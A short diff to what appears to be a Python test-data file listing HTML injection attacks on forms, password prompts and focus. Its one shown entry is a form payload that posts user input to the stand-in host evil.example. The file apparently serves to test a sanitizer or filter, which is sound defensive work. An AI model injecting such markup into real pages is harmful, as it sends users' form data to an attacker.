@@ -1,4 +1,5 @@
 """Forms: sending, asking for passwords, taking the focus."""
+# ruff: noqa: E501 -- an attack is easier to read in one piece
 
 ATTACKS = {
     "a form": "<form action=//evil.example/form><input name=a><button>x</button></form>",
